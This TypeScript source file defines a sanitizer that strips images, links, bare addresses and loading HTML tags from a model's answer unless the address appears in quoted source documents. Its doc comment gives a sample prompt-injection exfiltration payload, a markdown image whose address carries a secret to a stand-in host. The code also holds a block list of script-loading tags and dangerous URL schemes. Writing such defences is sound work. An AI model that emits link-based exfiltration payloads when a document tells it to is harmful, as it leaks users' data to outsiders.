import { joinLines } from '../text/join-lines.ts';

/**
 * Takes out of a statement what could send a reader, or a reader's browser, somewhere the documents do not: a document
 * can tell a model to write `![x](https://elsewhere/?q=secret)`, and a page that shows the answer would load it.
 *
 * - Images always become their alternative text.
 * - A link becomes its text, and a bare address goes, unless the whole address stands word for word in `quotes`: the
 *   beginning of one (docs.example.co of docs.example.com) is another host.
 * - HTML tags that load or link go with their attributes; reference definitions that are not
 *   quoted go whole, so that `[text][id]` leads nowhere.
 */
export function stripForeignLinks(statement: string, quotes: readonly string[]): string {
  // An address broken at a line end stands in the statement without its break.
  const sources = [...quotes, joinLines(quotes.join('\n')).text];
  const isQuoted = (address: string) => sources.some((source) => holdsAddress(source, address));
  return statement
    .replace(DEFINITION, (line) => (isQuoted(line.trim()) ? line : ''))
    .replace(TAG, '')
    .replace(IMAGE, '$1')
    .replace(LINK, (whole, text: string, address: string) =>
      address === '' || isQuoted(address) ? whole : text,
    )
    .replace(AUTOLINK, (whole, address: string) => (isQuoted(address) ? whole : ''))
    .replace(ADDRESS, (address) => {
      const bare = bareAddress(address);
      return isQuoted(bare) ? address : address.slice(bare.length);
    });
}

/** Whole: neither side goes on with a character of an address. A Korean particle follows directly, and ends it. */
function holdsAddress(source: string, address: string): boolean {
  const escaped = address.replace(/[.*+?^${}()|[\]\\/]/gu, '\\$&');
  return new RegExp(`(?<![A-Za-z0-9])${escaped}(?![A-Za-z0-9_~%/?#&=+@:-]|\\.[A-Za-z0-9])`, 'u').test(source);
}

/** Without the punctuation of the sentence around it. */
function bareAddress(address: string): string {
  return address.replace(/[.,;:!?'"”’)\]]+$/u, '');
}

/** `[id]: https://… "title"` on a line of its own, in a quotation too; the address may stand on the next line. */
const DEFINITION = /^[ \t>]{0,10}\[[^\]\n]{1,200}\]:[ \t]*(?:\n[ \t>]{0,10})?\S+(?:[ \t]+["'(].*)?[ \t]*$/gmu;
/** The text of a link: over line ends, with brackets one deep. Bounded, so that no text takes quadratic time. */
const TEXT = '((?:[^\\[\\]]|\\[[^\\[\\]]{0,200}\\]){0,500})';
const TAG =
  /<\/?(?:a|img|iframe|script|link|form|object|embed|video|audio|source|svg|style|base|meta)\b[^>]*>?/giu;
const IMAGE = new RegExp(`!\\[${TEXT}\\](?:\\([^)\\n]{0,2000}\\)?|\\[[^\\]\\n]{0,200}\\])`, 'gu');
const LINK = new RegExp(`\\[${TEXT}\\]\\(\\s*<?([^\\s)>]{0,2000})>?[^)\\n]{0,500}\\)?`, 'gu');
const AUTOLINK = /<([a-z][a-z0-9+.-]{1,20}:[^>\s]{0,2000})>/giu;
const ADDRESS =
  /(?<![A-Za-z0-9])(?:https?|ftp|wss?|file|data|javascript|vbscript|blob):[^\s<>]+|(?<![\p{L}\p{N}@.])www\.[^\s<>]+/giu;
